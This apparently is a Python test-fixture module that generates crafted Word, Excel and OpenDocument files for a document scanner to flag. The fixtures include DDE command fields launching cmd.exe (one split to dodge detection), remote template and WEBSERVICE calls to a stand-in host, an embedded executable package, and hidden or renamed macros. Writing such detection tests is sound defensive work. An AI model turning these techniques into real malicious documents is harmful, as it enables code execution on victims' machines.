"""Office papers that fetch something, carry something or run something."""

from __future__ import annotations

from functools import cache

from service.domain.temuan import DENGAN_CATATAN
from tests.contoh_buruk._contoh import Contoh
from tests.contoh_buruk._kertas import (
    XML,
    docx,
    docx_parts,
    odf,
    types,
    xlsx,
    xlsx_parts,
    zipped,
)
from tests.contoh_buruk._lama import book, word
from tests.contoh_buruk._ole import compound

LUAR = "http://contoh.example/"


@cache
def contoh() -> list[Contoh]:
    """Rows 39 to 41."""
    return [*_pointing(), *_macros()]


def _pointing() -> list[Contoh]:
    field = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText>'
    field += '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    cut = field.format("DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\cmd.exe")
    formula = '<row r="1"><c r="A1"><f>{}</f><v>1</v></c></row>'
    link = f'{XML}<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    native = b"\2\0surat.exe\0C:\\surat.exe\0\0\0\3\0" + b"\0" * 5_000
    papers: list[tuple[str, bytes, str, int]] = [
        (
            "templat.docx",
            docx("", ("attachedTemplate", LUAR + "a.dotm", "External")),
            "templat_luar",
            39,
        ),
        (
            "templat-unc.docx",
            docx("", ("attachedTemplate", "file://server/a.dotm", "External")),
            "templat_luar",
            39,
        ),
        ("gambar.docx", docx("", ("image", LUAR + "a.png", "External")), "gambar_luar", 39),
        (
            "gambar-unc.docx",
            docx("", ("image", "\\\\server\\a.png", "External")),
            "gambar_luar",
            39,
        ),
        (
            "gambar.odt",
            odf(f'<text:p><draw:image xlink:href="{LUAR}a.png"/></text:p>'),
            "gambar_luar",
            39,
        ),
        ("tautan.xlsx", xlsx("", "", "", ("externalLink", LUAR, "External")), "rujukan_luar", 39),
        ("dde.docx", docx(field.format('DDEAUTO c:\\\\cmd.exe "/c calc"')), "dde", 39),
        ("dde-potong.docx", docx(cut), "dde", 39),
        ("dde-polos.docx", docx('<w:p><w:fldSimple w:instr=" DDE excel a b "/></w:p>'), "dde", 39),
        ("ambil.docx", docx(field.format(f'INCLUDEPICTURE "{LUAR}a.png" \\d')), "gambar_luar", 39),
        (
            "ole.docx",
            docx(more={"word/embeddings/oleObject1.bin": compound({"a": b"b"})}),
            "objek_tertanam",
            39,
        ),
        (
            "paket.docx",
            docx(more={"word/embeddings/oleObject1.bin": compound({"\1Ole10Native": native})}),
            "program_tertanam",
            39,
        ),
        (
            "lokal.docx",
            docx("", ("image", "file:///C:/foto/a.png", "External")),
            "gambar_lokal",
            40,
        ),
        (
            "lokal.odt",
            odf('<text:p><draw:image xlink:href="../a.png"/></text:p>'),
            "gambar_lokal",
            40,
        ),
        ("dde.xlsx", xlsx(formula.format("cmd|'/c calc'!A0")), "dde", 76),
        ("web.xlsx", xlsx(formula.format(f'WEBSERVICE("{LUAR}")')), "dde", 76),
        (
            "buku.xlsx",
            xlsx(more={"xl/externalLinks/externalLink1.xml": link + "</externalLink>"}),
            "buku_lain",
            62,
        ),
        (
            "dde-buku.xlsx",
            xlsx(more={"xl/externalLinks/externalLink1.xml": link + "<ddeLink/></externalLink>"}),
            "dde",
            76,
        ),
    ]
    return [Contoh(nama, held, DENGAN_CATATAN, kode, row) for nama, held, kode, row in papers]


def _macros() -> list[Contoh]:
    vba = {"word/vbaProject.bin": compound({"VBA/dir": b"x"})}
    docm = {**docx_parts(kind="application/vnd.ms-word.document.macroEnabled.main+xml"), **vba}
    xlsm = xlsx_parts(kind="application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    renamed = {
        **docx_parts(),
        "[Content_Types].xml": types(
            main="word/document.xml=application/vnd.ms-word.document.macroEnabled.main+xml",
            vba="word/biasa.dat=application/vnd.ms-office.vbaProject",
        ),
        "word/biasa.dat": "x",
    }
    sheet = "xl/macrosheets/sheet1.xml"
    basic = {"Basic/Standard/Module1.xml": f"{XML}<a/>"}
    papers: list[tuple[str, bytes, str]] = [
        ("makro.docm", zipped(docm), "makro"),
        ("makro.docx", zipped(docm), "nama_lain"),
        ("makro-diam.docx", docx(more=vba), "makro"),
        ("makro-alih.docm", zipped(renamed), "makro"),
        ("makro.xlsm", zipped({**xlsm, "xl/vbaProject.bin": "x"}), "makro"),
        ("makro4.xlsm", zipped({**xlsm, sheet: f"{XML}<a/>"}), "makro_xlm"),
        ("kontrol.docx", docx(more={"word/activeX/activeX1.bin": "x"}), "activex"),
        ("pita.docx", docx(more={"customUI/customUI.xml": f"{XML}<a/>"}), "pita_khusus"),
        ("makro.odt", odf(more=basic), "makro"),
        ("acara.odt", odf("<script:event-listener/>"), "makro"),
        ("makro.doc", compound({**word(), "Macros/VBA/dir": b"x"}), "makro"),
        ("makro.xls", compound({"Workbook": book(), "_VBA_PROJECT_CUR/VBA/dir": b"x"}), "makro"),
        ("makro4.xls", compound({"Workbook": book(kind=1)}), "makro_xlm"),
    ]
    return [Contoh(nama, held, DENGAN_CATATAN, kode, 41) for nama, held, kode in papers]
